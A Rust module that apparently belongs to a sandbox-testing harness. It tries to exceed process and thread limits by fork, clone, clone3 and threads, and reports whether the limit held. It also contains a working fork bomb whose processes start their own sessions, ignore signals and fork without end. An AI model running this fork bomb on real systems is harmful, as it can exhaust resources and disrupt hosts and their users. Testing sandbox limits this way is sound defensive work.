//! More processes and threads than are allowed.

use libc::c_long;

use crate::{
    Attack, say,
    sys::{self, address, call_with},
};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[("processes", processes), ("bomb", bomb)];

/// Makes processes one after the other, in one way, until it may not or has more than its limit.
///
/// Arguments: how (`fork`, `clone`, `clone3`, `vfork`, `threads`), and the limit.
fn processes(args: &[String]) {
    let (how, limit) = (args.first().map_or("", String::as_str), number(args.get(1)));
    let mut n_made = 1;
    while n_made <= limit + 1 {
        let made = match how {
            "threads" => thread(),
            "clone" => process(call_with(libc::SYS_clone, &[c_long::from(libc::SIGCHLD)])),
            "clone3" => {
                let mut arguments = [0_u64; 11];
                arguments[4] = libc::SIGCHLD.unsigned_abs().into();
                process(call_with(libc::SYS_clone3, &[address(&arguments), 88]))
            }
            _ => sys::fork(|| sys::pause()).is_ok(),
        };
        if !made {
            break;
        }
        n_made += 1;
    }
    say::note("made", n_made);
    if n_made > limit {
        say::open(format_args!("{n_made} processes at once under a limit of {limit}"));
    } else {
        say::held(format_args!("no more than {n_made} at once"));
    }
    say::ready_and_stay();
}

fn process(result: Result<c_long, sys::Errno>) -> bool {
    if result == Ok(0) {
        sys::pause();
    }
    result.is_ok()
}

fn thread() -> bool {
    std::thread::Builder::new().stack_size(16 * 1024).spawn(|| sys::pause()).is_ok()
}

/// The classical bomb: every process makes processes, in sessions of their own, deaf to signals, for ever.
fn bomb(_: &[String]) {
    say::ready();
    for _ in 0..4 {
        let _ = sys::fork(|| {
            sys::ignore_signals();
            explode();
        });
    }
    explode();
}

fn explode() {
    loop {
        let _ = call_with(libc::SYS_setsid, &[]);
        if sys::fork(|| {}).is_err() {
            let _ = call_with(libc::SYS_sched_yield, &[]);
        }
        let _ = sys::fork(explode);
    }
}

fn number(text: Option<&String>) -> u64 {
    text.and_then(|it| it.parse().ok()).unwrap_or(0)
}
